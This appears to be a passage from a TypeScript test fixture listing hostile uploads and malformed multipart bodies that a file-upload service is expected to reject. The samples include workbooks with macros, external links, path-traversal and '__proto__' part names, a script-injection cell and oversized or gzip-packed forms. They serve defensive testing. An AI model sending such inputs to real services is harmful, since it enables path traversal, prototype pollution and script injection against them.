    () => b.workbook({ more: [{ name: 'xl/vbaProject.bin', bytes: 'x' }] }),
  ],
  [
    'workbook with links outside',
    'nothing is fetched',
    () =>
      b.workbook({ more: [{ name: 'xl/externalLinks/externalLink1.xml', bytes: '<a href="http://127.0.0.1:1/"/>' }] }),
  ],
  [
    'workbook with paths upwards beside its parts',
    'nothing is written',
    () => b.workbook({ more: [{ name: '../../../../tmp/linli-x', bytes: 'a' }] }),
  ],
  [
    'workbook with names of our language beside its parts',
    'changes what every object is',
    () => b.workbook({ more: [{ name: '__proto__', bytes: 'a' }] }),
  ],
  ['text turned right to left', 'reads otherwise than it says', text(line('\u202e某周'))],
  ['text with a page in its cells', 'runs on the page that shows the list', text(line('<script>alert(1)</script>'))],
]);

/** Kept as they came, so they must hold nothing that acts. */
export const statements: readonly HostileFile[] = each(BROKEN, [
  [
    'workbook with macros',
    'would lie among the papers',
    () => b.workbook({ more: [{ name: 'xl/vbaProject.bin', bytes: 'x' }] }),
  ],
]);

const form = (parts: readonly b.Part[]) => () => b.formBody(parts);
const MULTIPART = `multipart/form-data; boundary=${b.BOUNDARY}`;
const file: b.Part = { name: 'file', fileName: 'a.txt', bytes: 'a' };

/** Bodies that are no form, or one that nobody would send; sent to every route that takes files. */
export const bodies: readonly HostileBody[] = [
  ...(
    [
      ['a form without a boundary', 'multipart/form-data', [400, 'MALFORMED']],
      ['a boundary that is not in it', 'multipart/form-data; boundary=other', [400, 'MALFORMED']],
      ['a boundary of 10000 letters', `multipart/form-data; boundary=${'a'.repeat(10_000)}`, [400, 'MALFORMED']],
      ['bytes that call themselves JSON', 'application/json', [400, 'MALFORMED']],
      ['bytes without a kind', 'application/octet-stream', NO_TYPE],
      ['a form that calls itself text', 'text/plain', NO_TYPE],
    ] as const
  ).map(([name, type, answer]): HostileBody => ({ name, what: 'no form', type, body: form([file]), answer })),
  {
    name: 'a form that never ends',
    what: 'cut off',
    type: MULTIPART,
    body: () => b.formBody([file], b.BOUNDARY, ''),
    answer: [400, 'MALFORMED'],
  },
  { name: 'a form of nothing', what: 'no file', type: MULTIPART, body: form([]), answer: BROKEN },
  {
    name: 'two files under one name',
    what: 'one is looked at and another kept',
    type: MULTIPART,
    body: form([file, { ...file, bytes: 'b' }]),
    answer: BROKEN,
  },
  {
    name: 'a text in the place of a file',
    what: 'no file',
    type: MULTIPART,
    body: form([{ name: 'file', bytes: 'a' }]),
    answer: BROKEN,
  },
  {
    name: 'fields called like our language',
    what: 'changes what every object is',
    type: MULTIPART,
    body: form([
      { name: '__proto__', bytes: 'x' },
      { name: 'constructor', bytes: 'x' },
      { name: '__proto__.file', bytes: 'x' },
    ]),
    answer: BROKEN,
  },
  {
    name: 'fields with dots and brackets',
    what: 'objects nobody asked for',
    type: MULTIPART,
    body: form([
      { name: 'file[0]', bytes: 'x' },
      { name: 'file.name', bytes: 'x' },
    ]),
    answer: BROKEN,
  },
  {
    name: 'ten thousand fields',
    what: 'takes long to sort',
    type: MULTIPART,
    body: form(Array.from({ length: 10_000 }, (_, n) => ({ name: `f${n}`, bytes: 'x' }))),
    answer: BROKEN,
  },
  {
    name: 'ten thousand empty files',
    what: 'the same',
    type: MULTIPART,
    body: form(Array.from({ length: 10_000 }, () => ({ name: 'f', fileName: 'a', bytes: '' }))),
    answer: BROKEN,
  },
  {
    name: 'a packed form',
    what: 'unpacks to anything',
    type: MULTIPART,
    body: () => gzipSync(b.formBody([file])),
    headers: { 'content-encoding': 'gzip' },
    answer: [400, 'MALFORMED'],
  },
];

/** So many files and bodies there are. */
export const total = documents.length + sheets.length + lists.length + statements.length + bodies.length;

/** Whether the picture stands as it should: red above, as the camera saw it, after it lay on its side. */
export async function standsUpright(bytes: Buffer): Promise<boolean> {
  const { data, info } = await sharp(bytes).raw().toBuffer({ resolveWithObject: true });
  const at = (x: number, y: number) => data.subarray((y * info.width + x) * info.channels);
  return info.width === 20 && info.height === 40 && at(10, 5)[0]! > 150 && at(10, 35)[2]! > 150;
}
